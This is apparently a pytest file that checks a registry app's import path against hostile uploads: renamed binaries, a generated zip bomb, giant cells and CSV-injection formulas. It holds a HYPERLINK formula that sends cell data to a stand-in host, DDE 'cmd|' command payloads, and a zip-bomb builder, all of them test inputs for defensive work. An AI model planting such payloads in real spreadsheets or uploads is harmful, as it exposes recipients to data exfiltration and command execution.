"""Hostile uploads (issue 10): files that are not what they claim, zip bombs, giant cells,
formulas and CSV-injection payloads. Each ends in a clear refusal or a correct import; a
refusal leaves the registry as it was; nothing the app writes back out can run as a formula.

The 1,048,576-row sheet (Excel's maximum) is in `bench/hostile_bench.py` with its memory figure.
"""

from __future__ import annotations

import csv
import io
import os
import zipfile

import pytest
from python_calamine import CalamineWorkbook

from lindungi.core.errors import DomainError
from lindungi.imports.services import import_create, import_run
from lindungi.registry.models import Worker

from .files import csv_bytes, messy_xlsx

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'


def row(nik="6402061205800001", name="Budi Santoso", address="Jl. Mangkurawang 7", **extra):
    return [
        "1",
        nik,
        name,
        "Tenggarong, 12-05-1980",
        "L",
        address,
        "3/5",
        "Loa Ipuh",
        extra.get("phone", ""),
        "Petani",
        "",
    ]


def upload(actor, name, content):
    imp = import_create(
        actor=actor,
        file=io.BytesIO(content),
        file_name=name,
        region_code="64.02.06.1002",
        background=False,
    )
    return import_run(imp=imp, actor=actor)


def refused(actor, name, content):
    before = list(Worker.objects.values_list("nik", "version"))
    with pytest.raises(DomainError) as excinfo:
        upload(actor, name, content)
    assert list(Worker.objects.values_list("nik", "version")) == before
    assert excinfo.value.message
    return excinfo.value


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("desa.xlsx", os.urandom(4096)),  # random bytes named as a workbook
        ("desa.xlsx", b"PK\x03\x04" + os.urandom(4096)),  # a zip header and garbage
        ("desa.xlsx", b"\x7fELF\x02\x01\x01" + bytes(4000)),  # an executable
        ("desa.xlsx", b"%PDF-1.7\n" + os.urandom(2000)),  # a PDF renamed
    ],
)
def test_a_file_that_is_not_a_workbook_is_refused_clearly(world, name, content):
    error = refused(world.village_operator, name, content)
    assert error.code == "IMPORT_FILE_UNREADABLE"


def test_binary_renamed_as_csv_is_refused(world):
    error = refused(world.village_operator, "desa.csv", b"\x7fELF\x02\x01\x01" + os.urandom(8000))
    assert error.code in {"IMPORT_NO_HEADER", "IMPORT_FILE_UNREADABLE"}


def _zip_bomb(path, unpacked_mb: int) -> None:
    """A valid-looking workbook whose sheet inflates ~1000:1 (zeros)."""
    chunk = b"0" * (1 << 20)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(unpacked_mb):
                sheet.write(chunk)


def test_a_zip_bomb_is_refused_before_it_is_inflated(world, tmp_path):
    path = tmp_path / "desa.xlsx"
    _zip_bomb(path, 300)  # 300 MB of sheet in a few hundred KB
    assert path.stat().st_size < 2 * 1024 * 1024
    error = refused(world.village_operator, "desa.xlsx", path.read_bytes())
    assert error.code == "IMPORT_FILE_UNREADABLE"
    assert "terkompresi" in error.message


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_ten_megabyte_cell_is_a_rejected_row_not_a_crash(world, tmp_path, kind):
    giant = "A" * (10 * 1024 * 1024)
    rows = [row(), row(nik="6402065705850002", name="Siti Aminah", address=giant)]
    rows[1][4] = "P"
    rows[1][3] = "Tenggarong, 17-05-1985"
    if kind == "csv":
        content = csv_bytes(rows)
    else:
        content = messy_xlsx(tmp_path / "desa.xlsx", rows).read_bytes()
    imp = upload(world.village_operator, f"desa.{kind}", content)
    assert (imp.created, imp.rejected) == (1, 1)
    assert list(Worker.objects.values_list("nik", flat=True)) == ["6402061205800001"]
    with imp.report.open("rb") as handle:
        report = list(csv.DictReader(io.StringIO(handle.read().decode("utf-8"))))
    giant_row = next(r for r in report if r["status"] == "rejected")
    assert "Alamat" in giant_row["messages"] or "alamat" in giant_row["messages"]
    assert len(giant_row["messages"]) < 1000  # the report names the problem, not the cell


def test_formulas_import_as_their_text_and_every_export_neutralises_them(world, tmp_path):
    """A formula in a free-text column is stored as the operator's text; a formula where a NIK
    or name belongs is rejected. The CSV report carries them with a leading apostrophe; the rejected-rows workbook as
    text cells. Either way a spreadsheet shows them and never evaluates them."""
    rows = [
        row(address=PAYLOAD),
        row(nik="+6402065705850002", name="Siti"),
        row(nik="6402060101700004", name="@SUM(1+1)*cmd|' /C calc'!A0"),
        row(nik="6402062002000005", name="-2+3+cmd|' /C calc'!A0"),
    ]
    path = tmp_path / "desa.csv"
    path.write_bytes(csv_bytes(rows))
    imp = upload(world.village_operator, "desa.csv", path.read_bytes())
    stored = Worker.objects.get(nik="6402061205800001")
    assert stored.address == PAYLOAD  # kept as entered, it is just text in the registry
    assert imp.created == 1 and imp.rejected == 3

    with imp.report.open("rb") as handle:
        report_text = handle.read().decode("utf-8")
    for line in list(csv.reader(io.StringIO(report_text)))[1:]:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@")), cell

    # The rejected-rows workbook gives the operator's cells back to be corrected: as text
    # cells (an xlsx string cell is never evaluated), with no formula anywhere in the sheet.
    with imp.rejected_file.open("rb") as handle, zipfile.ZipFile(handle) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    workbook = CalamineWorkbook.from_filelike(imp.rejected_file.open("rb"))
    cells = [c for r in workbook.get_sheet_by_index(0).to_python() for c in r]
    assert "+6402065705850002" in cells and "-2+3+cmd|' /C calc'!A0" in cells
